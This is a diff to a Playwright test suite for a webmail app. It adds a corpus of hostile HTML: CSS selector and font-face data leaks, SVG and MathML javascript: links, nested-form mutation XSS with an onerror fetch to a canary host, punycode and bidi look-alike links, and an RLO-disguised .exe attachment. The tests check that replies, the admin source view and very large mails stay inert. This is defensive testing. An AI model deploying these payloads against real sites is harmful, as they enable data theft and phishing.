@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import email.message
+import email.policy
 import re
 import threading
 from collections.abc import Iterator
@@ -10,8 +12,8 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 import pytest
 from playwright.sync_api import Route, expect
 
-from tests.journeys.browser import Visit, Visits, row
-from tests.journeys.running import RunningService
+from tests.journeys.browser import Visit, Visits, message, row
+from tests.journeys.running import ADMIN_PASSWORD, RunningService
 
 pytest_plugins = ["tests.journeys.visiting"]
 
@@ -102,6 +104,24 @@ CORPUS = {
     "unfinished": '<img src="{0}/never?',
     "comment tricks": "<!--><script>" + SCRIPT + "</script>--><!--[if true]><script>" + SCRIPT + ""
     "</script><![endif]--><![CDATA[<script>" + SCRIPT + "</script>]]>",
+    "stolen by style": "<style>input[value^=a]{{background:url({0}/starts-with-a)}}"
+    "html:has(a[href*=token]){{background:url({0}/has)}}@media(width>1px){{@import '{0}/i.css'}}"
+    "@font-face{{font-family:leak;src:url({0}/leak);unicode-range:U+0061}}*{{font-family:leak}}"
+    "p::before{{content:url({0}/content)}}@supports(display:grid){{p{{mask:url({0}/mask)}}}}"
+    "@layer x{{@import url({0}/layer.css)}}</style><p style='--x:url({0}/v);background:var(--x)'>aa"
+    "</p><input value=abc><a href='https://x.example/?token=1'>a</a>",
+    "svg in styles": '<svg><style>@import "{0}/svg-import.css";</style><foreignObject><img '
+    'src="{0}/foreign.png"></foreignObject><a xlink:href="javascript:' + SCRIPT + '"><text>x</text>'
+    '</a><set attributeName=href to="javascript:' + SCRIPT + '"/></svg>',
+    "mathml link": '<math href="javascript:' + SCRIPT + '">CLICK</math><math><maction actiontype='
+    '"statusline#{0}" xlink:href="javascript:' + SCRIPT + '">x</maction></math>',
+    "nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='"
+    'fetch("{0}/nested")\'>',
+    "bidi and look-alikes": '<a id=go href="https://xn--pple-43d.example/">https://apple.example/'
+    '</a> \u202egnp.exe\u202c \u2066\u2067login\u2069 <a href="https://bank.example@{1}/">bank</a>'
+    '<a href="http://{1}\u2044bank.example/">bank</a>',
+    "huge table": "<table>" + "<tr>" + "<td>x" * 60 + "</tr>" * 1,
+    "deep": "<div>" * 3_000 + "deep" + "<b><i>" * 500,
     "end of the frame": "</body></html><script>" + SCRIPT + "</script>"
     '"></iframe><script>' + SCRIPT + "</script>&quot;&gt;&lt;/iframe&gt;",
 }
@@ -197,6 +217,115 @@ def stopped(complaint: str) -> bool:
         words in complaint
         for words in ("Content Security Policy", "sandboxed", "Unsafe attempt", "Blocked script")
     )
+
+
+def test_an_answer_quotes_words_and_nothing_that_acts(
+    visit: Visits, service: RunningService, canary: Canary
+) -> None:
+    """Hazard 32: the quote of a reply, as text and in a formatted letter."""
+    person = visit()
+    address = person.address()
+    person.settled()
+    watch(person)
+    page = person.page
+    # One letter with everything; and it also looks like markup after it was made text.
+    html = "".join(CORPUS.values()) + "&lt;img src=x onerror=alert(1)&gt;"
+    service.deliver(address, hostile("everything", html, canary))
+    page.get_by_role("link", name="Attack by everything").click()
+    expect(page.locator("#mail-subject")).to_have_text("Attack by everything")
+    page.get_by_role("toolbar", name="Message").get_by_role("button", name="Reply").click()
+    quoted = page.locator(".quoted")
+    expect(quoted).to_contain_text("> Dear reader")
+    assert quoted.locator("*").count() == 0
+    page.get_by_role("button", name="With formatting").click()
+    page.get_by_role("button", name="Edit the quote").click()
+    letter = page.get_by_role("textbox", name="Message text")
+    expect(letter).to_contain_text("Dear reader")
+    # Only what a letter of ours is made of.
+    strange = "script, style, img, svg, math, iframe, form, input, [onerror], [style], [src]"
+    assert letter.locator(strange).count() == 0
+    assert canary.calls == []
+    assert page.title() != "owned"
+    assert [one for one in person.complaints if "Content Security Policy" not in one] == []
+    person.complaints.clear()
+
+
+def test_the_administration_shows_a_hostile_mail_as_its_source(
+    visit: Visits, service: RunningService, canary: Canary
+) -> None:
+    """Hazard 32: what an administrator looks at must not act either."""
+    address, token = service.open_address()
+    html = "".join(CORPUS.values())
+    service.deliver(address, hostile("the administrator", html, canary))
+    service.wait_for_mail(token)
+    person = visit(path="/admin")
+    watch(person)
+    page = person.page
+    page.get_by_label("Admin password").fill(ADMIN_PASSWORD)
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_role("heading", name="Overview")).to_be_visible()
+    person.complaints.clear()
+    page.goto(service.url + "/admin#/mails")
+    mail = page.get_by_role("row").filter(has_text="Attack by the administrator")
+    mail.get_by_role("button", name=re.compile("^Raw")).click()
+    source = page.get_by_role("dialog")
+    expect(source).to_contain_text("Dear reader")
+    acting = "img, svg, math, script, style, form, object, embed, [onerror], [onload]"
+    assert source.locator("pre").locator(acting).count() == 0
+    assert source.locator("iframe:not([sandbox])").count() == 0
+    assert canary.calls == []
+    assert page.title() != "owned"
+    assert [one for one in person.complaints if "Content Security Policy" not in one] == []
+    person.complaints.clear()
+
+
+def test_ten_megabytes_of_html_freeze_nothing(visit: Visits, service: RunningService) -> None:
+    """Hazard 28: the list, the keys and the next mail go on working while such a mail is open."""
+    person = visit()
+    address = person.address()
+    person.settled()
+    page = person.page
+    rows = "<tr>" + "<td style='color:red'><b>cell</b>" * 8 + "</tr>"
+    table = "<table>" + rows * (10_000_000 // len(rows)) + "</table>"
+    for name, html in (("table", table), ("words", "<p>" + "word " * 2_000_000)):
+        service.deliver(address, big(name, html))
+    service.deliver(address, message("A small one", "Quick to read."))
+    for name in ("table", "words"):
+        page.get_by_role("link", name=f"Large {name}").click()
+        expect(page.locator("#mail-subject")).to_have_text(f"Large {name}", timeout=30_000)
+        page.get_by_role("link", name="A small one").click()
+        expect(page.locator("#mail-subject")).to_have_text("A small one", timeout=30_000)
+        expect(page.locator(".text")).to_contain_text("Quick to read.")
+    assert person.sideways() <= 0
+
+
+def big(name: str, html: str) -> bytes:
+    lines = "\r\n".join(html[at : at + 900] for at in range(0, len(html), 900))
+    return (
+        f"From: m@sender.example\r\nTo: you@x.test\r\nSubject: Large {name}\r\n"
+        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + lines + "\r\n"
+    ).encode()
+
+
+def test_names_that_turn_round_are_told_as_they_are(visit: Visits, service: RunningService) -> None:
+    """Hazard 30: direction marks and look-alikes hide neither the ending of a file nor a host."""
+    person = visit()
+    address = person.address()
+    person.settled()
+    page = person.page
+    letter = email.message.EmailMessage(policy=email.policy.SMTP)
+    letter["From"] = "m@sender.example"
+    letter["Subject"] = "Confirm your account"
+    letter.set_content("Confirm: https://xn--pple-43d.example/confirm?token=abcdef123456")
+    letter.add_attachment(b"MZ", maintype="application", subtype="x", filename="inv\u202efdp.exe")
+    service.deliver(address, letter.as_bytes())
+    act = row(page, "Confirm your account").locator("a.act")
+    expect(act).to_have_attribute("title", "Opens xn--pple-43d.example in a new tab")
+    page.get_by_role("link", name="Confirm your account").click()
+    with page.expect_download() as file:
+        page.locator(".fname").click()
+    assert file.value.suggested_filename.endswith("fdp.exe")
+    assert "\u202e" not in file.value.suggested_filename
 
 
 def test_shown_pictures_are_fetched_and_nothing_else(
